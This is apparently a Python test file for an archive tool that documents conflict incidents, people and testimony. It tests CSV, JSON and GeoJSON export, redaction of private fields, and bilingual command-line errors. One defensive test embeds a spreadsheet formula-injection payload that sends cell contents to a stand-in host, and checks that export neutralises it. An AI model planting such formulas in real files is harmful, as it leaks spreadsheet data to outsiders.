def test_a_one_day_range_survives_export(local: Records, tmp_path: Path) -> None:
    local.create("incident", {"title.ar": "قصف", "date": "2017-03-12/2017-03-12"})
    files = export_csv(local, tmp_path / "export", types=["incident"])
    report = import_csv(local, files["incident"], "incident")
    assert (report.updated, report.unchanged) == (0, 1)


def test_custom_vocabulary_terms_must_exist_in_the_other_vault(
    records: Records, fresh_records: Records, tmp_path: Path
) -> None:
    """An organisation's own terms are events in its vault, not part of a CSV export: the
    other vault says which term it lacks, and takes the file once the term is added."""
    records.add_term("weapon", "gas_cylinder_bomb", "اسطوانة غاز متفجرة", "Gas cylinder bomb")
    records.create("incident", {"title.ar": "قصف بأسطوانات الغاز", "weapons": "اسطوانة غاز متفجرة"})
    path = export_csv(records, tmp_path / "export", types=["incident"])["incident"]
    report = import_csv(fresh_records, path, "incident")
    assert [(p.line, p.column) for p in report.problems] == [(2, "weapons")]
    assert "gas_cylinder_bomb is not a term of the weapon vocabulary" in message(report.problems[0])
    fresh_records.add_term("weapon", "gas_cylinder_bomb", "اسطوانة غاز متفجرة", "Gas cylinder bomb")
    assert import_csv(fresh_records, path, "incident").new == 1


def test_json_export(records: Records) -> None:
    made = make_archive(records)
    buf = io.StringIO()
    count = export.export(records, "json", buf)
    doc = json.loads(buf.getvalue())
    assert doc["format"] == "athar.records.v1"
    assert count == len(doc["records"]) == sum(len(made[t]) for t in IMPORT_ORDER)
    by_id = {r["id"]: r for r in doc["records"]}
    assert made["deleted"][0] not in by_id
    for type_name in IMPORT_ORDER:
        for record_id in made[type_name]:
            item = by_id[record_id]
            assert item["type"] == type_name
            assert item["fields"] == public(type_name, records.get(record_id).data)
    assert "contact" not in by_id[made["source"][0]]["fields"]
    assert "interviewer" not in by_id[made["testimony"][0]]["fields"]
    assert not {"reporter.name", "reporter.contact"} & set(by_id[made["missing"][0]]["fields"])
    assert "ن. ح." not in buf.getvalue() and "+963" not in buf.getvalue()
    market = by_id[made["incident"][0]]
    assert {"rel": "victim", "dst": made["person"][0]} in market["links"]
    assert {"rel": "source", "dst": made["source"][0]} in market["links"]
    assert market["fields"]["place.coordinates"] == {
        "lat": 33.5731,
        "lon": 36.4019,
        "precision_m": 500,
    }

    buf = io.StringIO()
    export.export(records, "json", buf, "source", include_private=True)
    [item] = json.loads(buf.getvalue())["records"]
    assert item["fields"]["contact"] == "+963 944 000 000 (واتساب)"
    buf = io.StringIO()
    assert export.export(records, "json", buf, "person") == 2
    assert {r["type"] for r in json.loads(buf.getvalue())["records"]} == {"person"}


def test_geojson_export(records: Records) -> None:
    made = make_archive(records)
    buf = io.StringIO()
    count = export.export(records, "geojson", buf)
    doc = json.loads(buf.getvalue())
    assert doc["type"] == "FeatureCollection"
    market, _, aleppo, homs = made["incident"]
    features = {f["id"]: f for f in doc["features"]}
    assert count == len(doc["features"]) == 3
    assert set(features) == {market, aleppo, homs}  # only records with coordinates
    for feature in doc["features"]:
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert feature["properties"]["id"] == feature["id"]
        assert feature["properties"]["type"] == "incident"
    assert features[market]["geometry"]["coordinates"] == [36.4019, 33.5731]  # [lon, lat]
    assert features[aleppo]["geometry"]["coordinates"] == [37.1343, 36.2021]
    assert features[homs]["geometry"]["coordinates"] == [36.6939, 34.7199]
    assert features[market]["properties"]["title.ar"] == "قصف سوق دوما الشعبي"
    buf = io.StringIO()
    assert export.export(records, "geojson", buf, "person") == 0
    assert json.loads(buf.getvalue()) == {"type": "FeatureCollection", "features": []}


# -- 9. the command line -------------------------------------------------------------------
def _init(cli) -> None:
    r = cli("init", "--json")
    assert r.exit_code == 0, r.output


def test_cli_import_problems(cli, tmp_path: Path) -> None:
    _init(cli)
    rows = [row[:] for row in PEOPLE]
    rows[1][7] = "2017-02-30"
    rows[3][4] = "xyz"
    path = write_csv(tmp_path / "bad.csv", PERSON_HEADER, rows)

    r = cli("import", str(path), "--type", "person")
    assert r.exit_code == 2, r.output
    assert "line 3, status.date: 2017-02-30 is not a real date" in r.output
    assert "line 5, sex: xyz is not a term of the sex vocabulary" in r.output
    assert "2 problems in 4 rows; nothing was imported" in r.output

    r = cli("import", str(path), "--type", "person", "--json")
    assert r.exit_code == 2
    doc = json.loads(r.stdout)
    assert doc["ok"] is False and doc["committed"] is False and doc["problems"] == 2
    assert doc["problem_list"] == [
        {"line": 3, "column": "status.date", "message": "2017-02-30 is not a real date"},
        {
            "line": 5,
            "column": "sex",
            "message": "xyz is not a term of the sex vocabulary (see athar vocab sex)",
        },
    ]

    r = cli("--lang", "ar", "import", str(path), "--type", "person")
    assert r.exit_code == 2
    assert "السطر 3" in r.output and "2017-02-30 ليس تاريخاً حقيقياً" in r.output
    assert "السطر 5" in r.output and "لم يستورد شيء" in r.output
    r = cli("import", str(path), "--type", "person", "--json", env={"ATHAR_LANG": "ar"})
    assert r.exit_code == 2
    doc = json.loads(r.stdout)
    assert doc["problem_list"][0]["message"] == "2017-02-30 ليس تاريخاً حقيقياً"

    r = cli("import", str(tmp_path / "nope.csv"), "--type", "person")
    assert r.exit_code == 2 and "no such file" in r.output
    r = cli("list", "--json")
    assert r.exit_code == 0 and json.loads(r.stdout) == []


def test_cli_import_dry_run_map_ignore_and_export(cli, tmp_path: Path) -> None:
    _init(cli)
    header = ["الرقم", "الاسم", "name_ar.family", "sex", "ملاحظات", "status", "status.date"]
    rows = [
        ["1", "محمد", "الحلبي", "ذكر", "", "قتيل", "2017-03-12"],
        ["2", "فاطمة الزهراء", "العلي", "أنثى", "للفريق فقط", "", ""],
    ]
    path = write_csv(tmp_path / "org.csv", header, rows)
    r = cli("import", str(path), "--type", "person")
    assert r.exit_code == 2 and "الرقم, الاسم, ملاحظات" in r.output
    args = ["import", str(path), "--type", "person", "--map", "الرقم=id,الاسم=name_ar.given"]
    args += ["--ignore", "ملاحظات"]
    r = cli(*args, "--dry-run")
    assert r.exit_code == 0, r.output
    assert "Dry run: 2 rows are fine (2 new, 0 changed, 0 unchanged)" in r.output
    assert json.loads(cli("list", "--json").stdout) == []
    r = cli(*args, "--json")
    assert r.exit_code == 0, r.output
    doc = json.loads(r.stdout)
    assert (doc["ok"], doc["new"], doc["committed"], doc["problem_list"]) == (True, 2, True, [])
    r = cli(*args)
    assert "Imported 2 rows: 0 new, 0 changed, 2 unchanged" in r.output
    r = cli("search", "الزهراء", "--json")
    assert [x["title"] for x in json.loads(r.stdout)] == ["فاطمة الزهراء العلي"]

    r = cli("new", "incident", "title.ar=قصف سوق دوما", "place.coordinates=33.5731,36.4019")
    assert r.exit_code == 0, r.output
    out = tmp_path / "map.geojson"
    r = cli("export", "--format", "geojson", "--out", str(out))
    assert r.exit_code == 0, r.output
    assert "Exported 1 records" in r.output
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["type"] == "FeatureCollection"
    assert [f["geometry"]["coordinates"] for f in doc["features"]] == [[36.4019, 33.5731]]

    out = tmp_path / "people.csv"
    r = cli("export", "--format", "csv", "--type", "person", "--out", str(out))
    assert r.exit_code == 0, r.output
    exported = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert sorted(x["name_ar.given"] for x in exported) == ["فاطمة الزهراء", "محمد"]
    r = cli("export", "--format", "csv")
    assert r.exit_code == 2 and "--type" in r.output
    r = cli("--lang", "ar", "export", "--format", "csv", "--type", "person", "--out", str(out))
    assert r.exit_code == 0


# -- 10. any text survives the round trip ---------------------------------------------------
CELL_TEXT = st.text(
    alphabet=st.sampled_from(
        list("محمدأحمدالحلبيفاطمةالزهراءدوماريفدمشقحلبةىئؤءًٌٍَُِّْ")
        + list("abcXYZ019٠١٩ ")
        + [",", '"', "'", "\n", "\r", "،", ";", "|", "=", "-", "~", "\t", "\u200f"]
    ),
    max_size=40,
)


def test_text_cells_survive_export_and_import(tmp_path: Path) -> None:
    source_vault = Vault.create(tmp_path / "a", PASSPHRASE)
    target_vault = Vault.create(tmp_path / "b", PASSPHRASE)
    with Records(source_vault) as source, Records(target_vault) as target:

        @settings(max_examples=40, deadline=None)
        @given(given_name=CELL_TEXT, family=CELL_TEXT, note=CELL_TEXT)
        @example(given_name="", family="'=1+1", note="'\r0")  # apostrophe before a trigger
        def round_trip(given_name: str, family: str, note: str) -> None:
            given_name = "ن" + given_name  # a person needs a name
            record_id = source.create(
                "person",
                {"name_ar.given": given_name, "name_latin.family": family, "note": note},
            )
            expected = {
                "name_ar.given": parse_text(given_name),
                "name_latin.family": parse_text(family),
                "note": parse_text(note),
            }
            expected = {k: v for k, v in expected.items() if v}
            assert source.get(record_id).data == expected
            path = export_csv(source, tmp_path / "rt", types=["person"])["person"]
            report = import_csv(target, path, "person")
            assert report.problems == []
            assert report.new == 1
            assert target.get(record_id).data == expected

        round_trip()
    source_vault.close()
    target_vault.close()


def test_unnamed_column_holding_data_is_refused(local: Records, tmp_path: Path) -> None:
    path = tmp_path / "extra.csv"
    path.write_text("name_ar.full,\nعلي,\nفاطمة,سرّي\n", encoding="utf-8")
    report = import_csv(local, path, "person")
    assert [(p.line, p.template) for p in report.problems] == [
        (3, "column {n} has no name but holds {value}; name it or delete it")
    ]
    assert not report.committed and local.counts() == {}


def test_csv_export_defuses_spreadsheet_formulas(local: Records, tmp_path: Path) -> None:
    """A party's statement beginning with = must not run as a formula in a spreadsheet,
    and still comes back unchanged when the export is imported."""
    formula = '=HYPERLINK("http://x.example/?q="&A1,"click")'
    claim = local.create("claim", {"party": "+الطرف الأول", "text.ar": formula})
    out = io.StringIO()
    export.export(local, "csv", out, "claim")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["text.ar"] == "'" + formula
    assert rows[0]["party"] == "'+الطرف الأول"
    path = tmp_path / "claims.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    report = import_csv(local, path, "claim")
    assert report.unchanged == 1 and report.problems == []
    assert local.get(claim).data["text.ar"] == formula
